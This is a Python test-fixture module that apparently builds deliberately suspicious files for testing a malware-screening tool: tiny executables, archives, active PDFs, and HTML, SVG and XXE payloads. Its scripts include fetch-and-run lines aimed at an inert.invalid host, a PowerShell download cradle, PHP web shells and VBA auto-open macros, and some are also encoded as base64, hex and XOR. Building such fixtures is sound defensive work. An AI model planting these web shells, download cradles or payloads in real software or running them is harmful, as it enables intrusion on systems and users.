"""The second family of hidden files: written anew, without a look at the first, by whoever tries to get past screening.

Odd shapes of the formats where ``payloads`` has the plain ones, files that real programs made, and scripts as people
write them. All are harmless: programs that return, archives of one line of text.
"""

from __future__ import annotations

import base64
import io
import lzma
import random
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator
from importlib.util import find_spec
from pathlib import Path
from typing import NamedTuple

from harness.real_files import real


class Stranger(NamedTuple):
    """One file to hide. A text may stand in an element that holds text; ``begins`` says that its first bytes tell."""

    name: str
    kind: str
    data: bytes
    is_text: bool = False
    begins: bool = True


# -- programs


def pe(
    machine: int = 0x8664, magic: int = 0x20B, at: int = 0x80, sections: int = 1, stub: bytes = b"", size: int = 1024
) -> bytes:
    """A Windows program whose header stands at ``at``, which may lie within the DOS header itself."""
    optional = struct.pack("<HBBLLLLL", magic, 14, 0, 512, 0, 0, 0x1000, 0x1000) + bytes(240 - 24)
    coff = struct.pack("<4sHHLLLHH", b"PE\0\0", machine, sections, 0x5F000000, 0, 0, 240, 0x22)
    table = b"".join(
        struct.pack("<8sLLLLLLHHL", b".text\0\0\0", 16, 0x1000 * (each + 1), 512, 512, 0, 0, 0, 0, 0x60000020)
        for each in range(sections)
    )
    file = bytearray(max(size, at + 700))
    file[:64] = b"MZ" + struct.pack("<H", 0x90) + bytes(56) + struct.pack("<L", at)
    file[64 : 64 + len(stub)] = stub
    header = coff + optional + table
    if at < 64:  # the tiny kind: e_lfanew is a field of the optional header as well
        file[at : at + len(header)] = header
        file[60:64] = struct.pack("<L", at)
    else:
        file[at : at + len(header)] = header
    file[-16:] = b"\x31\xc0\xc3" + b"\xcc" * 13
    return bytes(file)


def elf(machine: int, order: str = "<", wide: bool = True, kind: int = 2, system: int = 0) -> bytes:
    """A program for ``machine`` with one segment."""
    ident = b"\x7fELF" + bytes([2 if wide else 1, 1 if order == "<" else 2, 1, system]) + bytes(8)
    if wide:
        head = struct.pack(order + "HHLQQQLHHHHHH", kind, machine, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0)
        segment = struct.pack(order + "LLQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 200, 200, 4096)
    else:
        head = struct.pack(order + "HHLLLLLHHHHHH", kind, machine, 1, 0x8054, 52, 0, 0, 52, 32, 1, 0, 0, 0)
        segment = struct.pack(order + "LLLLLLLL", 1, 0, 0x8000, 0x8000, 200, 200, 5, 4096)
    return (ident + head + segment).ljust(200, b"\x90")


def macho(order: str, wide: bool, cpu: int, kind: int = 2) -> bytes:
    """A program of one segment and a thread."""
    magic = 0xFEEDFACF if wide else 0xFEEDFACE
    if wide:
        command = struct.pack(order + "LL16sQQQQLLLL", 0x19, 72, b"__TEXT", 0, 4096, 0, 4096, 5, 5, 0, 0)
    else:
        command = struct.pack(order + "LL16sLLLLLLLL", 0x1, 56, b"__TEXT", 0, 4096, 0, 4096, 5, 5, 0, 0)
    head = struct.pack(order + "LLLLLLL", magic, cpu, 3, kind, 1, len(command), 0x85) + bytes(4 if wide else 0)
    return (head + command).ljust(4096, b"\0")


def fat(wide: bool) -> bytes:
    """A universal program of two."""
    parts = [(0x01000007, macho("<", True, 0x01000007)), (0x0100000C, macho("<", True, 0x0100000C))]
    head = struct.pack(">LL", 0xCAFEBABF if wide else 0xCAFEBABE, 2)
    for number, (cpu, part) in enumerate(parts):
        place = 4096 * (number + 1)
        head += struct.pack(">LLQQLL" if wide else ">LLLLL", *((cpu, 3, place, len(part), 12) + ((0,) if wide else ())))
    return head.ljust(4096, b"\0") + parts[0][1] + parts[1][1]


def dex(version: bytes) -> bytes:
    """An Android program without a class."""
    body = bytearray(0x70 + 32)
    body[:8] = b"dex\n" + version + b"\0"
    struct.pack_into("<LLL", body, 32, len(body), 0x70, 0x12345678)
    struct.pack_into("<LL", body, 104, 0, 0x70)
    body[12:32] = random.Random(version).randbytes(20)
    struct.pack_into("<L", body, 8, zlib.adler32(body[12:]))
    return bytes(body)


def shortcut() -> bytes:
    """A Windows shortcut with a relative path and arguments, in Unicode."""
    flags = 0x4 | 0x8 | 0x20 | 0x80
    head = struct.pack("<L", 0x4C) + bytes.fromhex("0114020000000000c000000000000046")
    head += struct.pack("<LLQQQLLLHHLL", flags, 0x20, 0, 0, 0, 0, 0, 7, 0, 0, 0, 0)
    text = b"".join(
        struct.pack("<H", len(each)) + each.encode("utf-16-le") for each in ("scan", ".\\viewer.exe", "/quiet")
    )
    return head + text + bytes(4)


def launcher(name: str) -> bytes:
    """A launcher that distlib brings for Windows: a real program, of Microsoft's linker."""
    spec = find_spec("distlib")
    assert spec is not None
    assert spec.origin is not None
    return (Path(spec.origin).parent / name).read_bytes()


def programs() -> Iterator[Stranger]:
    """Programs of every system, odd ones where the rules of the format allow it."""
    made = {
        "pe-tiny": pe(0x14C, 0x10B, at=4),
        "pe-tiny-12": pe(0x14C, 0x10B, at=12),
        "pe-at-40": pe(0x14C, 0x10B, at=0x40),
        "pe-arm64": pe(0xAA64),
        "pe-arm": pe(0x1C4, 0x10B),
        "pe-far": pe(at=6000),
        "pe-many-sections": pe(sections=12),
        "pe-efi": pe(0xEBC),
        "pe-dos-stub": pe(stub=b"\x0e\x1f\xba\x0e\0\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21Requires Windows.$", at=0xC8),
        "elf-aarch64": elf(183),
        "elf-arm": elf(40, wide=False),
        "elf-mips-be": elf(8, ">", wide=False),
        "elf-ppc64-be": elf(21, ">"),
        "elf-s390x": elf(22, ">"),
        "elf-sparc": elf(2, ">", wide=False),
        "elf-riscv-so": elf(243, kind=3),
        "elf-freebsd": elf(62, system=9),
        "elf-m68k": elf(4, ">", wide=False),
        "elf-loongarch": elf(258),
        "macho-32-be": macho(">", False, 18),
        "macho-32": macho("<", False, 7),
        "macho-arm64": macho("<", True, 0x0100000C),
        "macho-dylib": macho("<", True, 0x01000007, kind=6),
        "macho-fat": fat(wide=False),
        "macho-fat-64": fat(wide=True),
        "dex-035": dex(b"035"),
        "dex-039": dex(b"039"),
        "lnk": shortcut(),
        "elf-static": real("elf-static"),
        "elf-object": real("elf-object"),
        "java-class": real("class"),
        "wasm": real("wasm"),
        "launcher-t32": launcher("t32.exe"),
        "launcher-w64-arm": launcher("w64-arm.exe"),
    }
    yield from (Stranger(name, "program", data) for name, data in made.items())


# -- archives and disks


def zipped(
    names: dict[str, bytes], comment: bytes = b"", method: int = zipfile.ZIP_DEFLATED, before: bytes = b""
) -> bytes:
    """An archive, with whatever may stand before and behind it."""
    buffer = io.BytesIO(before)
    buffer.seek(0, 2)
    with zipfile.ZipFile(buffer, "a", method) as archive:
        archive.comment = comment
        for name, data in names.items():
            archive.writestr(zipfile.ZipInfo(name, (2024, 5, 6, 7, 8, 10)), data, compress_type=method)
    return buffer.getvalue()


_INERT = {"inert.txt": b"nothing to see\n"}
_OFFICE = {"[Content_Types].xml": b"<Types/>", "_rels/.rels": b"<Relationships/>", "word/document.xml": b"<w/>"}


def rar4() -> bytes:
    """RAR 4: marker, archive header, one stored file."""

    def block(kind: int, flags: int, rest: bytes, data: bytes = b"") -> bytes:
        body = struct.pack("<BHH", kind, flags, 7 + len(rest)) + rest
        return struct.pack("<H", zlib.crc32(body) & 0xFFFF) + body + data

    data, name = b"nothing to see\n", b"inert.txt"
    file = struct.pack("<LLBLLBBHL", len(data), len(data), 2, zlib.crc32(data), 0x58A63907, 20, 0x30, len(name), 0x20)
    main = block(0x73, 0, bytes(6))
    return b"Rar!\x1a\x07\0" + main + block(0x74, 0x8000, file + name, data) + block(0x7B, 0x4000, b"")


def rar5() -> bytes:
    """RAR 5: marker, archive header, end."""

    def block(rest: bytes) -> bytes:
        body = bytes([len(rest)]) + rest
        return struct.pack("<L", zlib.crc32(body)) + body

    return b"Rar!\x1a\x07\x01\0" + block(b"\x01\0\0") + block(b"\x05\0\0")


def tarred(format_: int) -> bytes:
    """An archive of one file."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=format_) as archive:
        entry = tarfile.TarInfo("inert.sh")
        entry.size, entry.mode = 15, 0o755
        archive.addfile(entry, io.BytesIO(b"nothing to see\n"))
    return buffer.getvalue()


def dmg() -> bytes:
    """An Apple disk image: its trailer at the end of what it describes."""
    trailer = struct.pack(">4sLLLQQQQQLL", b"koly", 4, 512, 1, 0, 0, 1024, 0, 0, 1, 1)
    return random.Random(7).randbytes(1024) + trailer.ljust(512, b"\0")


def compound(name: str, class_id: str = "") -> bytes:
    """An OLE file of one stream; ``class_id`` tells an installer."""
    head = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
    head += struct.pack("<LLLLLLLLL", 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    head += struct.pack("<L", 0) + b"\xff" * (436 - 4)

    def entry(entry_name: str, kind: int, first: int, size: int, child: int) -> bytes:
        raw = entry_name.encode("utf-16-le") + b"\0\0"
        identity = bytes.fromhex(class_id) if kind == 5 and class_id else bytes(16)
        return (
            raw.ljust(64, b"\0")
            + struct.pack("<HBBLLL", len(raw), kind, 1, 0xFFFFFFFF, 0xFFFFFFFF, child)
            + identity
            + bytes(20)
            + struct.pack("<LQ", first, size)
        )

    table = struct.pack("<LLLL", 0xFFFFFFFD, 0xFFFFFFFE, 0xFFFFFFFE, 0xFFFFFFFF).ljust(512, b"\xff")
    directory = entry("Root Entry", 5, 0xFFFFFFFE, 0, 1) + entry(name, 2, 2, 512, 0xFFFFFFFF) + bytes(256)
    return head + table + directory + bytes(512)


def help_file() -> bytes:
    """Compiled HTML help: its two headers."""
    head = b"ITSF" + struct.pack("<LLLLL", 3, 0x60, 1, 0x5D4C3B2A, 0x409)
    head += bytes.fromhex("10fd017caa7bd0119e0c00a0c922e6ec11fd017caa7bd0119e0c00a0c922e6ec")
    return head + struct.pack("<QQQQ", 0x60, 0x18, 0x78, 0x54) + struct.pack("<Q", 0xCC) + bytes(400)


def archives() -> Iterator[Stranger]:
    """Archives, installers and disks."""
    xz = lzma.compress(b"nothing to see\n" * 10)
    made = {
        "zip": zipped(_INERT),
        "zip-comment": zipped(_INERT, comment=b"a comment of several words " * 20),
        "zip-stored-prefixed": zipped({"run.bat": b"@echo off\r\n"}, method=zipfile.ZIP_STORED, before=b"x" * 300),
        "jar": zipped(
            {"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\r\nMain-Class: H\r\n", "H.class": real("class")}
        ),
        "apk": zipped({"AndroidManifest.xml": bytes(40), "classes.dex": dex(b"035"), "resources.arsc": bytes(40)}),
        "docx": zipped(_OFFICE),
        "docm": zipped(_OFFICE | {"word/vbaProject.bin": compound("VBA")}, comment=b"saved"),
        "odt": zipped(
            {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<office/>"},
            method=zipfile.ZIP_STORED,
        ),
        "xpi": zipped({"manifest.json": b'{"manifest_version": 2}', "background.js": b"browser.tabs"}),
        "rar4": rar4(),
        "rar5": rar5(),
        "tar-gnu": tarred(tarfile.GNU_FORMAT),
        "tar-pax": tarred(tarfile.PAX_FORMAT),
        "ole": compound("WordDocument"),
        "xls": compound("Workbook"),
        "msi": compound("Property", "84100c0000000000c000000000000046"),
        "chm": help_file(),
        "7z": real("7z"),
        "cab": real("cab"),
        "cab-mszip": real("cab-mszip"),
        "deb": b"!<arch>\ndebian-binary   1700000000  0     0     100644  4         `\n2.0\n"
        + b"control.tar.xz  1700000000  0     0     100644  %-10d`\n" % len(xz)
        + xz,
    }
    yield from (Stranger(name, "archive", data, begins="prefixed" not in name) for name, data in made.items())
    disks = ("iso", "iso-joliet", "qcow2", "vmdk", "vdi", "vhdx", "qed")
    yield from (Stranger(name, "disk", real(name)) for name in disks)
    yield Stranger("vhd", "disk", real("vhd"), begins=False)
    yield Stranger("dmg", "disk", dmg(), begins=False)


# -- documents


def pdf(action: bytes, before: bytes = b"") -> bytes:
    """A document of one page, with something else in its catalogue."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + action + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    out, places = before + b"%PDF-1.6\n%\xe2\xe3\xcf\xd3\n", []
    for number, each in enumerate(objects, 1):
        places.append(len(out) - len(before))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    table = len(out) - len(before)
    out += b"xref\n0 4\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % place for place in places)
    return out + b"trailer\n<< /Size 4 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % table


def documents() -> Iterator[Stranger]:
    """Documents that act."""
    text = {
        "pdf-js": pdf(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        "pdf-launch": pdf(b"/OpenAction << /Type /Action /S /Launch /Win << /F (cmd.exe) >> >>"),
        "pdf-embedded": pdf(b"/Names << /EmbeddedFiles << /Names [(a.exe) 9 0 R] >> >>"),
        "pdf-hex-names": pdf(b"/Open#41ction << /S /Java#53cript /J#53 (1) >>"),
        "pdf-plain": pdf(b""),
        "pdf-late": pdf(b"/AA << /O << /S /JavaScript /JS (1) >> >>", before=b"some words of text before it\n" * 8),
        "rtf-object": rb"{\rtf1\ansi{\object\objemb\objupdate{\*\objclass Package}{\*\objdata 0105000002000000}}}",
        "rtf-odd": rb"{\rtf0{\*\generator x;}{\field{\*\fldinst DDEAUTO c:\\windows\\calc }}}",
        "html-script": b"<html><body><script>document.location='http://inert.invalid/'</script></body></html>",
        "html-event": b"<!DOCTYPE html>\n<title>x</title><img src=x onerror=alert(1)>",
        "html-meta": b"<HTML><HEAD><META HTTP-EQUIV='refresh' CONTENT='0;url=javascript:alert(1)'></HEAD></HTML>",
        "html-comment-first": b"<!-- a comment -->\n<html><script src=//inert.invalid/a.js></script></html>",
        "svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><circle r='4'/></svg>",
        "svg-xml": b"<?xml version='1.0'?>\n<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
        "hta": b"<html><head><hta:application id=a><script language=vbscript>Close</script></head></html>",
        "xxe": b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
        "wsf": b"<job id='x'><script language='JScript'>WScript.Echo('inert');</script></job>",
        "mht": b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\n"
        b"Content-Type: text/html\r\n\r\n<html><script>1</script></html>\r\n--x--\r\n",
    }
    for name, data in text.items():
        yield Stranger(name, "document", data, is_text=True, begins=name != "pdf-late")


# -- scripts, with the line that names an interpreter and without

_SCRIPTS = {
    "sh": b"#!/bin/sh\nset -e\necho inert\n",
    "sh-env": b"#!/usr/bin/env bash\nfor i in 1 2 3; do\n  echo $i\ndone\n",
    "sh-bare": b"cd /tmp || exit 1\ncurl -fsSL http://inert.invalid/a | sh\nrm -f a\n",
    "sh-function": b'run() {\n  local a=$1\n  if [ -f "$a" ]; then\n    chmod +x $a && ./$a &\n  fi\n}\nrun ./inert\n',
    "cron": b"* * * * * root /bin/sh -c 'wget -qO- http://inert.invalid | bash'\n",
    "python": b"#!/usr/bin/python3\nimport sys\nprint(sys.argv)\n",
    "python-bare": b"import os, base64\nfor name in os.listdir('.'):\n    os.system('echo ' + name)\n",
    "python-exec": b"exec(__import__('zlib').decompress(b'x'))\n",
    "perl": b'#!/usr/bin/perl -w\nuse strict;\nprint "inert\\n";\n',
    "perl-bare": b"use Socket; my $i='127.0.0.1'; socket(S,PF_INET,SOCK_STREAM,6); exec('/bin/sh -i');\n",
    "ruby": b"require 'open3'\nOpen3.capture2('echo', 'inert')\nputs `id`\n",
    "php": b"<?php echo 'inert'; ?>\n",
    "php-shell": b"<?php if(isset($_REQUEST['c'])){ system($_REQUEST['c']); } ?>",
    "php-short": b"<?= `$_GET[0]` ?>",
    "batch": b"@echo off\r\nset A=1\r\ncall :next\r\n:next\r\necho %A%\r\n",
    "batch-bare": b"cmd /c start calc.exe\r\ndel %temp%\\a.txt\r\nexit /b 0\r\n",
    "powershell": b"$ErrorActionPreference = 'Stop'\r\nGet-ChildItem $env:TEMP | % { Write-Output $_.Name }\r\n",
    "powershell-web": b"IEX (New-Object Net.WebClient).DownloadString('http://inert.invalid/a.ps1')\r\n",
    "powershell-line": b"powershell.exe -nop -w hidden -enc SQBFAFgA\r\n",
    "vbs": b'Option Explicit\r\nDim shell\r\nSet shell = CreateObject("WScript.Shell")\r\nshell.Run "calc.exe", 0\r\n',
    "vbs-function": b'Function Hello(name)\r\n  Hello = "inert " & name\r\nEnd Function\r\nWScript.Echo Hello("x")\r\n',
    "vba": b'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\n  Shell "calc.exe", vbHide\r\nEnd Sub\r\n',
    "jscript": b"var shell = new ActiveXObject('WScript.Shell');\r\nshell.Run('calc.exe');\r\n",
    "javascript": b"(function () {\n  'use strict';\n  var a = document.body;\n  eval(atob('MQ=='));\n})();\n",
    "node": b"const { exec } = require('child_process');\nexec('id', (e, out) => { console.log(out); });\n",
    "reg": b'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Inert]\r\n"a"=dword:00000001\r\n',
    "inf": b"[autorun]\r\nopen=viewer.exe\r\nicon=viewer.ico\r\n",
    "url": b"[InternetShortcut]\r\nURL=file://inert.invalid/share/a.exe\r\n",
    "desktop": b"[Desktop Entry]\nType=Application\nExec=sh -c 'echo inert'\n",
    "applescript": b'tell application "Finder"\n  do shell script "echo inert"\nend tell\n',
    "lua": b"local f = io.popen('id')\nos.execute('echo inert')\nprint(f:read('*a'))\n",
    "jsp": b'<%@ page import="java.io.*" %><% Runtime.getRuntime().exec("id"); %>',
    "eicar-like": b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
}


def scripts() -> Iterator[Stranger]:
    """Scripts as they are written by hand, some in UTF-16 as Windows writes them."""
    yield from (Stranger(name, "script", data, is_text=True) for name, data in _SCRIPTS.items())
    for name in ("powershell-web", "vbs", "batch-bare", "reg", "jscript"):
        text = _SCRIPTS[name].decode()
        yield Stranger(f"{name}-utf16", "script", b"\xff\xfe" + text.encode("utf-16-le"))
        yield Stranger(f"{name}-utf16-be", "script", b"\xfe\xff" + text.encode("utf-16-be"))
    yield Stranger("vbs-utf16-bare", "script", _SCRIPTS["vbs"].decode().encode("utf-16-le"))


# -- encoded once


def _wrapped(text: bytes, width: int = 76, end: bytes = b"\r\n") -> bytes:
    return end.join(text[start : start + width] for start in range(0, len(text), width))


def _keyed(data: bytes, key: int) -> bytes:
    return data.translate(bytes(byte ^ key for byte in range(256)))


def encoded() -> Iterator[Stranger]:
    """Some of them in base64, hexadecimal and under XOR, as droppers carry them."""
    wanted = {
        "pe-arm64",
        "elf-aarch64",
        "zip",
        "jar",
        "macho-arm64",
        "java-class",
        "ole",
        "pdf-js",
        "php-shell",
        "vbs",
        "sh-bare",
        "7z",
    }
    plain = [each for each in (*programs(), *archives(), *documents(), *scripts()) if each.name in wanted]
    for each in plain:
        data, kind = each.data[:3000], f"encoded {each.kind}"
        b64 = base64.b64encode(data)
        yield Stranger(f"{each.name}-b64", kind, b64, is_text=True)
        yield Stranger(f"{each.name}-b64-mime", kind, _wrapped(b64), is_text=True)
        yield Stranger(f"{each.name}-b64-url", kind, base64.urlsafe_b64encode(data).rstrip(b"="), is_text=True)
        yield Stranger(f"{each.name}-data-uri", kind, b"data:application/octet-stream;base64," + b64, is_text=True)
        yield Stranger(f"{each.name}-hex", kind, data.hex().encode(), is_text=True)
        yield Stranger(f"{each.name}-hex-spaced", kind, data.hex(" ").upper().encode(), is_text=True)
        yield Stranger(f"{each.name}-hex-x", kind, b"".join(b"\\x%02x" % byte for byte in data), is_text=True)
        yield Stranger(f"{each.name}-hex-c", kind, b", ".join(b"0x%02x" % byte for byte in data), is_text=True)
        for key in (0x01, 0x5A, 0xFF):
            yield Stranger(f"{each.name}-xor-{key:02x}", kind, _keyed(data, key))
    pe_file = pe(0xAA64)
    script = b"$b = [Convert]::FromBase64String('" + base64.b64encode(pe_file) + b"')\r\n"
    yield Stranger("pe-in-powershell", "encoded program", script, is_text=True)
    pem = (
        b"-----BEGIN CERTIFICATE-----\n"
        + _wrapped(base64.b64encode(pe_file), 64, b"\n")
        + b"\n-----END CERTIFICATE-----\n"
    )
    yield Stranger("pe-in-pem", "encoded program", pem, is_text=True)


def strangers() -> tuple[Stranger, ...]:
    """All of them."""
    return (*programs(), *archives(), *documents(), *scripts(), *encoded())
